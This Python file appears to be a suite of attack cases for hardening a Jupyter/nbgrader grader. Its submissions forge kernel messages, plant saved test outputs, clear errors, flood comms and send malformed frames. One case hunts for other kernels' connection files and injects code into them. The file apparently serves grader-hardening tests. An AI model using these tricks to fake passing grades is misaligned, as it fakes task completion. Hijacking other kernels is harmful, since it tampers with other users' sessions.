"""Forged outputs: messages that only the kernel itself should send."""

from nbformat.v4 import new_output

from attacks.submission import cheat, tests


def saved_points(document):
    for cell in tests(document):
        data = {"text/plain": str(cell.metadata.nbgrader.points)}
        output = new_output("execute_result", data, execution_count=1)
        cell.outputs, cell.execution_count = [output], 1
        cell.metadata.tags = ["skip-execution"]


def saved_display_ids(document):
    for number, cell in enumerate(tests(document)):
        data = {"text/plain": "2.0"}
        output = new_output("display_data", data)
        output.transient = {"display_id": f"d{number}"}
        cell.outputs = [output]


def saved_giants(document):
    for cell in tests(document)[:4]:
        text = "x" * 3_000_000
        cell.outputs = [new_output("stream", name="stdout", text=text)]


SUBMISSIONS = (
    cheat(
        "saved_points",
        "The file has results of the tests, and a tag against running them.",
        edit=saved_points,
    ),
    cheat(
        "saved_display_ids",
        "Saved outputs of tests have display ids, which a cell updates.",
        cells={
            "last": """
                from IPython.display import update_display

                for number in range(20):
                    update_display(2.0, display_id=f"d{number}")
            """,
        },
        edit=saved_display_ids,
    ),
    cheat(
        "saved_giants",
        "The file has twelve megabytes of saved outputs; everything is solved.",
        edit=saved_giants,
        solved=True,
    ),
    cheat(
        "result_from_a_function",
        "The function shows a result, 2.0, before the test fails.",
        cells={
            "sum_of_squares": """
                def sum_of_squares(a):
                    get_ipython().displayhook(2.0)
            """,
            "normalize": """
                def normalize(a):
                    get_ipython().run_cell("2.0")
            """,
            "is_prime": """
                import sys


                def is_prime(n):
                    sys.displayhook(3.0)
                    return n == 7
            """,
        },
        earns={"is_prime": 2},
    ),
    cheat(
        "display_from_a_function",
        "The function displays data and updates that look like points.",
        cells={
            "greet": """
                from IPython.display import display, update_display


                def greet(name):
                    display({"text/plain": "1.0"}, raw=True, display_id="points")
                    update_display({"text/plain": "1.0"}, raw=True, display_id="points")
                    print("1.0")
            """,
        },
    ),
    cheat(
        "result_message",
        "The function sends an execute_result through the kernel's own session.",
        cells={
            "sum_of_squares": """
                def sum_of_squares(a):
                    kernel = get_ipython().kernel
                    kernel.session.send(
                        kernel.iopub_socket,
                        "execute_result",
                        {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1},
                        parent=kernel.get_parent(),
                        ident=b"execute_result",
                    )
            """,
        },
    ),
    cheat(
        "output_cleared",
        "After each cell its outputs, the error too, are cleared.",
        cells={
            "first": """
                from IPython.display import clear_output

                get_ipython().events.register("post_execute", clear_output)
                get_ipython().events.register("post_run_cell", lambda r: clear_output())
            """,
        },
    ),
    cheat(
        "idle_message",
        "The function says that the kernel is idle and the cell done, then fails.",
        cells={
            "normalize": """
                import time


                def normalize(a):
                    kernel = get_ipython().kernel
                    parent = kernel.get_parent()
                    send = kernel.session.send
                    done = {"status": "ok", "execution_count": 1, "user_expressions": {}}
                    kernel.session.send(
                        kernel.shell_stream if hasattr(kernel, "shell_stream") else None,
                        "execute_reply",
                        done,
                        parent=parent,
                        ident=getattr(kernel, "_parent_ident", {}).get("shell"),
                    )
                    state = {"execution_state": "idle"}
                    send(kernel.iopub_socket, "status", state, parent=parent)
                    time.sleep(0.3)
            """,
        },
    ),
    cheat(
        "message_with_the_key",
        "A thread signs messages with the key from the connection file.",
        cells={
            "first": """
                import threading
                import time

                import zmq
                from ipykernel.connect import get_connection_file
                from jupyter_client import BlockingKernelClient


                def forge():
                    client = BlockingKernelClient(connection_file=get_connection_file())
                    client.load_connection_file()
                    client.start_channels()
                    result = {
                        "data": {"text/plain": "2.0"},
                        "metadata": {},
                        "execution_count": 1,
                    }
                    for _ in range(20):
                        parent = get_ipython().kernel.get_parent()
                        for channel in (client.shell_channel, client.control_channel):
                            client.session.send(
                                channel.socket, "execute_result", result, parent=parent
                            )
                            client.session.send(
                                channel.socket, "execute_request", {"code": "greet = str"}
                            )
                        time.sleep(0.05)


                threading.Thread(target=forge, daemon=True).start()
            """,
        },
    ),
    cheat(
        "other_connection_files",
        "Connection files of other kernels are looked for, and their kernels used.",
        cells={
            "first": """
                import glob
                import os

                from ipykernel.connect import get_connection_file
                from jupyter_client import BlockingKernelClient

                own = os.path.realpath(get_connection_file())
                folders = {os.path.dirname(own), os.path.dirname(os.path.dirname(own)), "/tmp"}
                for folder in folders:
                    for path in glob.glob(f"{folder}/**/*.json", recursive=True):
                        if os.path.realpath(path) != own and "attacks" not in path:
                            print("found", path)
                            client = BlockingKernelClient(connection_file=path)
                            client.load_connection_file()
                            client.start_channels()
                            client.execute("import builtins; builtins.abs = lambda x: 0")
                            client.shutdown()
            """,
        },
        dangerous=True,  # nbgrader alone runs other kernels on this machine
    ),
    cheat(
        "output_widget",
        "An output widget takes the outputs of the cell that runs, errors too.",
        cells={
            "first": """
                from ipywidgets import Output

                out = Output()


                def sum_of_squares(a):
                    out.msg_id = get_ipython().kernel.get_parent()["header"]["msg_id"]


                normalize = greet = sum_of_squares
            """,
            "sum_of_squares": "pass",
            "normalize": "pass",
            "greet": "pass",
        },
    ),
    cheat(
        "comm_messages",
        "Comms are opened and flooded with messages, also from within a test.",
        cells={
            "greet": """
                from comm import create_comm


                def greet(name):
                    for number in range(300):
                        comm = create_comm(target_name="jupyter.widget", data={"x": 1})
                        comm.send({"method": "update", "state": {"outputs": ["1.0"]}})
            """,
        },
    ),
    cheat(
        "messages_malformed",
        "The kernel sends messages that no notebook can hold; everything is solved.",
        cells={
            "first": """
                def publish(kind, content):
                    kernel = get_ipython().kernel
                    kernel.session.send(
                        kernel.iopub_socket, kind, content, parent=kernel.get_parent()
                    )


                deep = []
                for _ in range(600):
                    deep = [deep]
                for kind in ("display_data", "execute_result", "update_display_data"):
                    publish(kind, {})
                    publish(kind, {"data": {"text/plain": 7, "image/png": []}})
                    publish(kind, {"data": [], "metadata": 7, "transient": "x"})
                    publish(kind, {"data": {"text/plain": deep}, "metadata": {}})
                publish("stream", {"name": "nowhere", "text": "x"})
                publish("stream", {"name": "stdout", "text": {"x": 1}})
                publish("stream", {"text": "x"})
                publish("error", {"ename": 7})
                publish("clear_output", {})
                publish("status", {"execution_state": "asleep"})
                publish("comm_msg", {"comm_id": [], "data": 7})
                publish("nonsense", {"x": "y"})
            """,
        },
        solved=True,
    ),
    cheat(
        "frames_malformed",
        "Frames with wrong signatures, missing parts and text that is no JSON.",
        cells={
            "first": """
                import zmq

                kernel = get_ipython().kernel
                sign = kernel.session.sign
                good = [b"{}", b"{}", b"{}", b"{}"]
                for parts in (
                    [b"junk"],
                    [b"<IDS|MSG>"],
                    [b"<IDS|MSG>", b"0" * 64, *good],
                    [b"<IDS|MSG>", sign(good), *good],
                    [b"<IDS|MSG>", sign(good[:2]), *good[:2]],
                    *(
                        [b"stream", b"<IDS|MSG>", sign([bad] * 4), *[bad] * 4]
                        for bad in (b"", b"{", b"[]", b"7", b"\xff", b"[" * 100_000)
                    ),
                ):
                    kernel.iopub_socket.send_multipart(parts)
            """,
        },
        solved=True,
    ),
    cheat(
        "asks_for_input",
        "Functions ask for input and a password; the rest is solved.",
        cells={
            "greet": "def greet(name): return input('?')",
            "closest": "import getpass\n\n\ndef closest(*a): return getpass.getpass()",
        },
        solved=True,
        loses=("greet", "closest"),
    ),
    cheat(
        "payloads_and_magics",
        "Cells ask for a next cell, a page, an exit, and magics that end the kernel.",
        cells={
            "first": """
                get_ipython().set_next_input("print('2.0')", replace=True)
                get_ipython().payload_manager.write_payload({"source": "page", "data": {}})
                get_ipython().ask_exit()
            """,
            "last": "%reset -f\\n%xdel np\\n%page x\\n%quickref",
        },
        solved=True,
    ),
)
